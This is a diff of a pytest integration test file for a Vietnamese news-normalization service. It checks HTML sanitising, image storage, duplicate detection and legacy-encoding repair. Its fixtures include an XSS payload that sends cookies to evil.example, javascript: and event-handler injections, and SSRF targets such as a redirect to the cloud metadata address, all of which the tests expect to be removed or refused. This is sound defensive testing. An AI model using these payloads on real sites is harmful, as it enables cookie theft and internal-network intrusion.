@@ -1,10 +1,17 @@
-"""The normalize service on the real stack: article.ingested in, article.normalized out."""
+"""The normalize service on the real stack: article.ingested in, article.normalized out.
+
+Live traffic goes to loopback only: the test's own image server (named in
+IMAGE_FETCH_ALLOW_HOSTS) and loopback addresses that must be refused; private, link-local and
+metadata addresses are refused by classification, before anything is sent.
+"""
 
 from __future__ import annotations
 
 import base64
+import io
+import random
 import uuid
-from collections.abc import AsyncIterator
+from collections.abc import AsyncIterator, Iterator
 from datetime import UTC, datetime
 from typing import Any
 
@@ -12,6 +19,7 @@ import httpx
 import pytest
 from asgi_lifespan import LifespanManager
 from fastapi import FastAPI
+from PIL import ExifTags, Image
 
 from portal_contracts.articles import (
     ArticleAction,
@@ -20,29 +28,39 @@ from portal_contracts.articles import (
     ArticleIngestedEvent,
     ArticleNormalizedEvent,
     Channel,
+    ImageRef,
     article_id_for,
 )
 from portal_contracts.topics import ARTICLE_INGESTED, ARTICLE_NORMALIZED
 from portal_normalize.app import create_app
+from portal_normalize.fetch import ImageFetcher
+from portal_normalize.media import MediaService
+from portal_normalize.settings import Settings
+from portal_runtime.db import make_engine, make_sessionmaker
+from portal_runtime.storage import ObjectStore
+
+from .normalize_imageserver import ImageServer, image_server, jpeg, png
 
 pytestmark = pytest.mark.stack
 
 SOURCE = "tinh-thu-nghiem"
-DIRTY_HTML = (
-    '<div class="noi-dung" style="font-family:.VnTime">'
-    "<h1>Hội nghị lần thứ 8</h1>"
-    '<p onclick="steal()">Thuỷ lợi và hoà bình <font color="red">phát triển</font>.</p>'
-    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
-    '<p><a href="javascript:alert(1)">bấm</a> <a href="/tin/khac.html">tin khác</a></p>'
-    '<img src="https://anh.example/1.jpg" onerror="alert(1)" alt="Ảnh">'
-    '<iframe src="https://evil.example"></iframe><svg onload="alert(1)"></svg>'
-    "</div>"
+PARAGRAPH = (
+    "Đảng Cộng sản Việt Nam lãnh đạo toàn diện công tác xây dựng, chỉnh đốn Đảng và hệ thống "
+    "chính trị trong sạch, vững mạnh; phát huy sức mạnh đại đoàn kết toàn dân tộc. "
 )
 
 
+@pytest.fixture(scope="module")
+def images() -> Iterator[ImageServer]:
+    with image_server() as server:
+        yield server
+
+
 @pytest.fixture
-async def normalize(env_for: Any) -> AsyncIterator[tuple[FastAPI, dict[str, str]]]:
-    env = env_for("normalize")
+async def normalize(
+    env_for: Any, images: ImageServer
+) -> AsyncIterator[tuple[FastAPI, dict[str, str]]]:
+    env = env_for("normalize", IMAGE_FETCH_ALLOW_HOSTS=images.host)
     app = create_app()
     async with LifespanManager(app, startup_timeout=120, shutdown_timeout=60):
         yield app, env
@@ -53,24 +71,26 @@ def _ingested(
     revision: int,
     *,
     action: ArticleAction = ArticleAction.UPSERT,
-    title: str = "Hội nghị",
-    body_html: str = "<p>Nội dung</p>",
+    source: str = SOURCE,
+    **fields: Any,
 ) -> ArticleIngestedEvent:
-    article_id = article_id_for(SOURCE, external_id)
+    article_id = article_id_for(source, external_id)
     content = None
     if action is ArticleAction.UPSERT:
-        content = ArticleContent(
-            title=title,
-            body_html=body_html,
-            section="ct-tin-tuc-hoat-dong",
-            canonical_url="https://tinh.example.vn/tin/1.html",
-        )
+        values: dict[str, Any] = {
+            "title": "Hội nghị",
+            "body_html": "<p>Nội dung</p>",
+            "section": "ct-tin-tuc-hoat-dong",
+            "canonical_url": "https://tinh.example.vn/tin/1.html",
+        }
+        values.update(fields)
+        content = ArticleContent.model_validate(values)
     return ArticleIngestedEvent(
         producer="ingest",
         subject=article_id,
         data=ArticleIngested(
             article_id=article_id,
-            source=SOURCE,
+            source=source,
             external_id=external_id,
             revision=revision,
             action=action,
@@ -81,21 +101,41 @@ def _ingested(
     )
 
 
+async def _normalized(kafka_events: Any, event: ArticleIngestedEvent) -> ArticleNormalizedEvent:
+    await kafka_events.produce(ARTICLE_INGESTED.name, event)
+    found = await kafka_events.read(ARTICLE_NORMALIZED.name, event.subject, until=bool)
+    return ArticleNormalizedEvent.model_validate(found[0])
+
+
+def _admin(app: FastAPI, env: dict[str, str]) -> httpx.AsyncClient:
+    return httpx.AsyncClient(
+        transport=httpx.ASGITransport(app=app),
+        base_url="http://normalize",
+        headers={"Authorization": f"Bearer {env['ADMIN_TOKEN']}"},
+    )
+
+
 async def test_dirty_html_comes_out_clean(
-    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any
+    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any, images: ImageServer
 ) -> None:
     app, env = normalize
+    picture = images.add(f"/{uuid.uuid4().hex}.jpg", jpeg(800, 600))
+    dirty = (
+        '<div class="noi-dung" style="font-family:Arial">'
+        "<h1>Hội nghị lần thứ 8</h1>"
+        '<p onclick="steal()">Thuỷ lợi và hoà bình <font color="red">phát triển</font>.</p>'
+        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
+        '<p><a href="javascript:alert(1)">bấm</a> <a href="/tin/khac.html">tin khác</a></p>'
+        f'<img src="{picture}" onerror="alert(1)" alt="Ảnh">'
+        '<iframe src="https://evil.example"></iframe><svg onload="alert(1)"></svg>'
+        "</div>"
+    )
     ext = uuid.uuid4().hex
-    event = _ingested(ext, 1, title="  Hoà bình &amp; <b>phát triển</b>", body_html=DIRTY_HTML)
-    await kafka_events.produce(ARTICLE_INGESTED.name, event)
-
-    found = await kafka_events.read(ARTICLE_NORMALIZED.name, event.subject, until=bool)
-    out = ArticleNormalizedEvent.model_validate(found[0])
+    event = _ingested(ext, 1, title="  Hoà bình &amp; <b>phát triển</b>", body_html=dirty)
+    out = await _normalized(kafka_events, event)
     assert out.producer == "normalize"
-    assert out.subject == event.subject
     data = out.data
     assert (data.source, data.external_id, data.revision) == (SOURCE, ext, 1)
-    assert data.action is ArticleAction.UPSERT
     assert data.article is not None
     html = data.article.body_html
     for dangerous in ("<script", "javascript:", "onerror", "onclick", "<iframe", "<svg", "style="):
@@ -104,27 +144,215 @@ async def test_dirty_html_comes_out_clean(
     assert "<h2>Hội nghị lần thứ 8</h2>" in html
     assert "Thủy lợi và hòa bình" in html  # one tone placement
     assert 'href="https://tinh.example.vn/tin/khac.html" rel="noopener noreferrer nofollow"' in html
-    assert '<img src="https://anh.example/1.jpg" alt="Ảnh">' in html
+    assert '<img src="/media/images/' in html and 'alt="Ảnh"' in html
     assert data.article.title == "Hòa bình & phát triển"
-    assert data.article.body_text.startswith("Hội nghị lần thứ 8\n\nThủy lợi và hòa bình")
-    assert data.article.summary.startswith("Hội nghị lần thứ 8 Thủy lợi")
     assert data.article.lead_image is not None
     assert data.quality is not None
     repairs = {r.code for r in data.quality.repairs}
-    assert {"markup_removed", "attributes_removed", "unsafe_url_removed"} <= repairs
-    assert data.quality.score < 1
+    assert {
+        "markup_removed",
+        "attributes_removed",
+        "unsafe_url_removed",
+        "images_stored",
+    } <= repairs
 
     # Operators can look the result up.
-    async with httpx.AsyncClient(
-        transport=httpx.ASGITransport(app=app), base_url="http://normalize"
-    ) as client:
-        status = await client.get(
-            f"/admin/v1/articles/{event.subject}",
-            headers={"Authorization": f"Bearer {env['ADMIN_TOKEN']}"},
-        )
+    async with _admin(app, env) as client:
+        status = await client.get(f"/admin/v1/articles/{event.subject}")
         assert status.status_code == 200, status.text
         assert status.json()["revision"] == 1
+        client.headers.pop("Authorization")
         assert (await client.get(f"/admin/v1/articles/{event.subject}")).status_code == 401
+
+
+async def test_images_are_stored_with_renditions_and_failures_reported(
+    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any, images: ImageServer
+) -> None:
+    run = uuid.uuid4().hex
+    photo = images.add(
+        f"/{run}/photo.jpg", jpeg(1800, 1200), headers={"Content-Type": "image/jpeg"}
+    )
+    chart = images.add(f"/{run}/chart.png", png(500, 300), headers={"Content-Type": "text/plain"})
+    page = images.add(f"/{run}/page.jpg", b"<!DOCTYPE html><html>404</html>")
+    gone = images.url(f"/{run}/gone.jpg")
+    event = _ingested(
+        run,
+        1,
+        images=[ImageRef(url=photo, caption="Quang cảnh hội nghị")],
+        body_html=(
+            f"<p>{PARAGRAPH}</p><p><img src='{chart}' alt='Biểu đồ'></p>"
+            f"<p><img src='{page}'></p><p><img src='{gone}'></p>"
+        ),
+    )
+    out = await _normalized(kafka_events, event)
+    article, quality = out.data.article, out.data.quality
+    assert article is not None and quality is not None
+    assert [m.original_url for m in article.images] == [photo, chart]
+    lead = article.lead_image
+    assert lead is not None and lead.original_url == photo and lead.caption == "Quang cảnh hội nghị"
+    assert (lead.width, lead.height) == (1800, 1200)
+    assert sorted(int(w) for w in lead.renditions) == [320, 640, 1024, 1600]
+
+    store = ObjectStore(Settings())
+    assert lead.object_key is not None
+    original = Image.open(io.BytesIO(await store.get(lead.object_key)))
+    assert original.size == (1800, 1200)
+    assert not original.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # where it was taken: gone
+    for width, key in lead.renditions.items():
+        rendition = Image.open(io.BytesIO(await store.get(key)))
+        assert rendition.format == "WEBP" and rendition.width == int(width)
+    chart_ref = article.images[1]
+    assert chart_ref.object_key is not None and chart_ref.object_key.endswith(".png")
+    assert f'src="/media/{chart_ref.object_key}"' in article.body_html
+
+    # Each failed image is named, with its reason.
+    codes = {i.code: i.message for i in quality.issues}
+    assert codes["image_broken"].startswith(page) and "HTML page" in codes["image_broken"]
+    assert codes["image_missing"].startswith(gone) and "HTTP 404" in codes["image_missing"]
+
+    # The same image in a later article is not fetched again.
+    hits = images.hits[f"/{run}/photo.jpg"]
+    again = _ingested(
+        uuid.uuid4().hex, 1, images=[ImageRef(url=photo)], body_html=f"<p>{PARAGRAPH}</p>"
+    )
+    out2 = await _normalized(kafka_events, again)
+    assert out2.data.article is not None and out2.data.article.lead_image is not None
+    assert out2.data.article.lead_image.object_key == lead.object_key
+    assert images.hits[f"/{run}/photo.jpg"] == hits
+
+
+async def test_internal_addresses_are_refused_and_the_article_still_goes_on(
+    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any, images: ImageServer
+) -> None:
+    run = uuid.uuid4().hex
+    with image_server() as internal:  # a loopback server nobody allowed
+        secret = internal.add("/secret.jpg", jpeg(400, 300))
+        hop = images.redirect(f"/{run}/hop.jpg", secret)
+        urls = [
+            secret,  # loopback, not allowed
+            hop,  # the allowed server redirects to loopback
+            images.redirect(f"/{run}/meta.jpg", "http://169.254.169.254/latest/meta-data/"),
+            "http://10.20.30.40/anh.jpg",
+            "http://[::ffff:127.0.0.1]:9/anh.jpg",
+        ]
+        event = _ingested(
+            run,
+            1,
+            body_html=f"<p>{PARAGRAPH}</p>" + "".join(f"<p><img src='{u}'></p>" for u in urls),
+        )
+        out = await _normalized(kafka_events, event)
+        assert internal.hits == {}  # nothing reached it
+    article, quality = out.data.article, out.data.quality
+    assert article is not None and quality is not None
+    assert article.images == [] and "<img" not in article.body_html
+    assert PARAGRAPH.strip()[:40] in article.body_text  # publishable: the text is all there
+    refused = [i.message for i in quality.issues if i.code == "image_refused"]
+    assert len(refused) == len(urls)
+    for url, message in zip(urls, refused, strict=True):
+        assert message.startswith(url)
+    assert any("cloud metadata" in m for m in refused)
+    assert any("loopback" in m for m in refused)
+    assert any("private" in m for m in refused)
+
+
+async def test_category_mapping_and_time_zone_come_from_the_admin_api(
+    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any
+) -> None:
+    app, env = normalize
+    source = f"tinh-{uuid.uuid4().hex[:10]}"
+    async with _admin(app, env) as client:
+        bad = await client.put(
+            f"/admin/v1/sources/{source}/mapping", json={"categories": {}, "timezone": "Mars/Base"}
+        )
+        assert bad.status_code == 422 and "timezone" in bad.text
+        bad = await client.put(
+            f"/admin/v1/sources/{source}/mapping", json={"categories": {"Tin": "Không hợp lệ"}}
+        )
+        assert bad.status_code == 422 and "categories" in bad.text
+        assert (await client.get(f"/admin/v1/sources/{source}/mapping")).status_code == 404
+        put = await client.put(
+            f"/admin/v1/sources/{source}/mapping",
+            json={"categories": {"Xây dựng Đảng": "ct-xay-dung-dang"}, "timezone": "Asia/Tokyo"},
+        )
+        assert put.status_code == 200, put.text
+        got = (await client.get(f"/admin/v1/sources/{source}/mapping")).json()
+        assert got["categories"] == {"Xây dựng Đảng": "ct-xay-dung-dang"}
+        assert got["timezone"] == "Asia/Tokyo"
+        client.headers.pop("Authorization")
+        assert (await client.get(f"/admin/v1/sources/{source}/mapping")).status_code == 401
+
+    event = _ingested(
+        uuid.uuid4().hex,
+        1,
+        source=source,
+        section=None,
+        categories=["Trang chủ > XÂY DỰNG ĐẢNG"],
+        published_at=datetime(2025, 3, 1, 9, 0),
+        body_html=f"<p>{PARAGRAPH}</p>",
+    )
+    out = await _normalized(kafka_events, event)
+    assert out.data.article is not None
+    assert out.data.article.section == "ct-xay-dung-dang"
+    assert out.data.article.published_at == datetime(2025, 3, 1, 0, 0, tzinfo=UTC)  # UTC+9
+
+
+def _unique_story() -> str:
+    """A story no other test (or earlier run on this stack) has told."""
+    words = PARAGRAPH.replace(",", "").replace(";", "").replace(".", "").split()
+    rng = random.Random(uuid.uuid4().int)
+    sentences = [" ".join(rng.choice(words) for _ in range(14)).capitalize() for _ in range(12)]
+    return ". ".join(sentences) + "."
+
+
+async def test_a_story_sent_again_is_linked_to_the_first(
+    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any
+) -> None:
+    app, env = normalize
+    story = _unique_story()
+    first = _ingested(uuid.uuid4().hex, 1, title="Tin gốc", body_html=f"<p>{story}</p>")
+    out1 = await _normalized(kafka_events, first)
+    assert out1.data.duplicate_of is None
+    # The same story from another agency, with a new headline and a changed sentence.
+    again = _ingested(
+        uuid.uuid4().hex,
+        1,
+        source="tinh-khac",
+        title="Tin gửi lại",
+        body_html=f"<p>Tin mới. {story[: len(story) * 9 // 10]} Hết.</p>",
+    )
+    out2 = await _normalized(kafka_events, again)
+    assert out2.data.duplicate_of == first.subject
+    # A third copy links to the first too (never to a duplicate).
+    third = _ingested(uuid.uuid4().hex, 1, body_html=f"<p>{story}</p>")
+    assert (await _normalized(kafka_events, third)).data.duplicate_of == first.subject
+    different = _ingested(uuid.uuid4().hex, 1, body_html=f"<p>{_unique_story()}</p>")
+    assert (await _normalized(kafka_events, different)).data.duplicate_of is None
+    async with _admin(app, env) as client:
+        status = (await client.get(f"/admin/v1/articles/{again.subject}")).json()
+        assert status["duplicate_of"] == first.subject
+
+
+async def test_a_legacy_encoded_article_arrives_in_unicode(
+    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any
+) -> None:
+    body = (
+        '<p><font face=".VnTime">Ban Th­êng vô TØnh ñy häp phiªn th­êng kú, '
+        "th¶o luËn nhiÒu néi dung quan träng.</font></p>"
+        '<p><span style="font-family:VNI-Times">Ñaûng boä tænh laõnh ñaïo toaøn dieän.</span></p>'
+        f"<p>{PARAGRAPH}</p>"
+    )
+    title = "Há»™i nghá»‹ Tá»‰nh á»§y"  # UTF-8 read as Windows-1252
+    out = await _normalized(
+        kafka_events, _ingested(uuid.uuid4().hex, 1, title=title, body_html=body)
+    )
+    article, quality = out.data.article, out.data.quality
+    assert article is not None and quality is not None
+    assert article.title == "Hội nghị Tỉnh ủy"
+    assert "Ban Thường vụ Tỉnh ủy họp phiên thường kỳ" in article.body_text
+    assert "Đảng bộ tỉnh lãnh đạo toàn diện." in article.body_text
+    codes = {r.code for r in quality.repairs}
+    assert {"encoding_tcvn3", "encoding_vni", "encoding_utf8_mojibake"} <= codes
+    assert "unknown_encoding" not in {i.code for i in quality.issues}
 
 
 async def test_older_revisions_and_repeats_are_ignored(
@@ -179,3 +407,35 @@ async def test_an_upsert_without_content_is_dead_lettered(
     assert letter["consumer_group"] == "normalize"
     assert "without content" in letter["reason"]
     assert await kafka_events.read(ARTICLE_NORMALIZED.name, event.subject) == []
+
+
+async def test_an_articles_images_share_a_time_budget(env_for: Any, images: ImageServer) -> None:
+    env_for("normalize", IMAGE_FETCH_ALLOW_HOSTS=images.host, IMAGE_ARTICLE_BUDGET_S="1.5")
+    settings = Settings()
+    engine = make_engine(settings.database_url)
+    fetcher = ImageFetcher(
+        timeout_s=10,
+        connect_timeout_s=2,
+        max_bytes=settings.image_max_bytes,
+        max_redirects=2,
+        user_agent="test",
+        allow_hosts=settings.allowed_hosts,
+    )
+    media = MediaService(settings, ObjectStore(settings), make_sessionmaker(engine), fetcher)
+    run = uuid.uuid4().hex
+    fast = images.add(f"/{run}/fast.jpg", jpeg(400, 300))
+    slow = images.add(f"/{run}/slow.jpg", jpeg(400, 300), delay_s=4.0)
+    try:
+        outcomes = await media.resolve([fast, slow])
+        assert outcomes[fast].ok
+        assert outcomes[slow].code == "timeout" and "time for images" in (
+            outcomes[slow].reason or ""
+        )
+        # Cut short by the budget is not cached as a failure: the next revision tries again.
+        before = images.hits[f"/{run}/slow.jpg"]
+        await media.resolve([fast, slow])
+        assert images.hits[f"/{run}/slow.jpg"] == before + 1
+        assert images.hits[f"/{run}/fast.jpg"] == 1  # stored: reused, not fetched again
+    finally:
+        await fetcher.aclose()
+        await engine.dispose()
